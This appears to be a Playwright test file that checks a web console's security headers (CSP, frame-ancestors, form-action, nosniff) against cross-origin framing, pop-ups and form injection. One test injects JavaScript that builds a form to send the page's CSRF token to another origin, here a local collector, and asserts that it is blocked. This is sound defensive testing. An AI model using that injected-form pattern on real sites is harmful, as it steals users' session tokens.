"""Every console page tells the browser what it may do with it: no framing by another
page, scripts and styles only from the console, no type sniffing; and every page still
works under that policy (nothing refused). Real browser, real server, both engines."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest

from tests.browser.console.conftest import Served

expect = pytest.importorskip("playwright.sync_api").expect


class _Elsewhere:
    """A page of another origin (same host, another port)."""

    def __init__(self, body: str) -> None:
        page = f"<!doctype html><title>elsewhere</title>{body}".encode()
        self.paths: list[str] = []
        paths = self.paths

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                paths.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.send_header("Content-Length", str(len(page)))
                self.end_headers()
                self.wfile.write(page)

            def log_message(self, *args: Any) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}/"
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def elsewhere() -> Iterator[Any]:
    made: list[_Elsewhere] = []

    def serve(body: str) -> _Elsewhere:
        made.append(_Elsewhere(body))
        return made[-1]

    yield serve
    for each in made:
        each.close()


def test_a_page_of_another_origin_cannot_frame_the_console(
    served: Served, signed_in: Any, elsewhere: Any
) -> None:
    producer = served.key("producer", "bot")
    task_id = served.escalate(producer)
    ann = signed_in("ann")
    target = f"{served.base_url}/console/tasks/{task_id}"
    ann.goto(target)  # signed in, the page renders for ann herself
    expect(ann.get_by_role("button", name="Claim")).to_be_visible()

    ann.goto(elsewhere(f'<iframe id="f" src="{target}" width="800" height="600"></iframe>').url)
    ann.wait_for_load_state("load")
    frame = ann.frame_locator("#f")
    # The framed console was refused: nothing of it rendered, nothing to click.
    expect(frame.locator("#task-body")).to_have_count(0)
    expect(frame.get_by_role("button", name="Claim")).to_have_count(0)
    with served.api() as admin:
        assert admin.get(f"/tasks/{task_id}").json()["status"] == "PENDING_REVIEW"


def _headers_ok(response: Any, url: str) -> None:
    assert response is not None, url
    headers = response.headers
    policy = headers.get("content-security-policy", "")
    assert "frame-ancestors 'none'" in policy, (url, headers)
    for directive in ("default-src 'self'", "script-src 'self'", "style-src 'self'"):
        assert directive in policy, (url, policy)
    assert "unsafe-inline" not in policy, url
    assert "form-action 'self'" in policy, (url, policy)
    assert headers.get("x-frame-options") == "DENY", url
    assert headers.get("x-content-type-options") == "nosniff", url


def test_every_console_page_carries_the_policy_and_works_under_it(
    served: Served, signed_in: Any
) -> None:
    producer = served.key("producer", "bot")
    task_id = served.escalate(producer)
    refused: list[str] = []
    ann = signed_in("ann")
    ann.on(
        "console",
        lambda message: (
            refused.append(message.text) if "Content Security Policy" in message.text else None
        ),
    )
    for path in (
        "/console",
        f"/console/tasks/{task_id}",
        "/console/tasks/00000000-0000-4000-8000-000000000000",  # the not-found page
        "/console/account",
    ):
        _headers_ok(ann.goto(path), path)
    fresh = ann.context.browser.new_page()
    fresh.on(
        "console",
        lambda message: (
            refused.append(message.text) if "Content Security Policy" in message.text else None
        ),
    )
    _headers_ok(fresh.goto(served.base_url + "/console/login"), "/console/login")
    fresh.close()

    # The task page works under the policy: the confidence bar is drawn from its data,
    # htmx claims, the lease countdown runs.
    ann.goto(f"/console/tasks/{task_id}")
    expect(ann.locator(".bar .fill")).to_have_attribute("style", "width: 41%;")
    ann.get_by_role("button", name="Claim").click()
    expect(ann.locator("#lease-timer")).to_be_visible()
    expect(ann.locator(".bar .fill")).to_have_attribute("style", "width: 41%;")
    expect(ann.locator(".bar .mark")).to_have_attribute("style", "left: 85%;")
    assert refused == []


def test_a_page_opened_by_another_site_records_no_view(
    served: Served, signed_in: Any, elsewhere: Any
) -> None:
    producer = served.key("producer", "bot")
    subject = {"title": "Quarterly results", "body": "Revenue grew 12%."}
    task_id = served.escalate(producer, subject=subject, source_revisions=["S01:r1"])
    target = f"{served.base_url}/console/tasks/{task_id}"
    ann = signed_in("ann")
    ann.goto(target)
    # Her first click on the page records that she looked at revision 1.
    with ann.expect_response(lambda r: r.url.endswith("/viewed")) as viewed:
        ann.locator("h1").first.click()
    assert viewed.value.status == 204
    with served.api(producer) as bot:
        revised = bot.put(
            f"/tasks/{task_id}/subject",
            headers={"If-Match": '"1"'},
            json={"subject": {**subject, "body": "Revenue grew 15%."}},
        )
        assert revised.status_code == 200, revised.text

    # Another site opens the task in a window of hers: the page shows, nothing is marked.
    with ann.context.expect_page() as opened:
        ann.goto(elsewhere(f'<script>window.open("{target}")</script>').url)
    popup = opened.value
    popup.wait_for_load_state("networkidle")
    expect(popup.get_by_text("Changed since you last looked (revision 1)")).to_be_visible()
    popup.close()

    ann.goto(target)
    expect(ann.get_by_text("Changed since you last looked (revision 1)")).to_be_visible()
    with ann.expect_response(lambda r: r.url.endswith("/viewed")) as viewed:
        ann.keyboard.press("Shift")
    assert viewed.value.status == 204
    ann.reload()
    expect(ann.get_by_text("Unchanged since you last looked.")).to_be_visible()


def test_a_console_page_cannot_send_a_form_to_another_origin(
    served: Served, signed_in: Any, elsewhere: Any
) -> None:
    """A form planted in a console page (markup injected anywhere) cannot carry what the
    page holds to another site: ``form-action 'self'``."""
    collector = elsewhere("<p>collected</p>")
    ann = signed_in("ann")
    ann.goto("/console/account")
    with ann.expect_console_message(lambda message: "form-action" in message.text):
        ann.evaluate(
            """(target) => {
                const form = document.createElement("form");
                form.method = "get";
                form.action = target;
                const field = document.createElement("input");
                field.name = "csrf";
                field.value = document.querySelector("input[name=csrf]")?.value || "secret";
                form.append(field);
                document.body.append(form);
                form.submit();
            }""",
            collector.url + "collect",
        )
    assert ann.url.endswith("/console/account")
    assert collector.paths == []  # nothing reached the other site
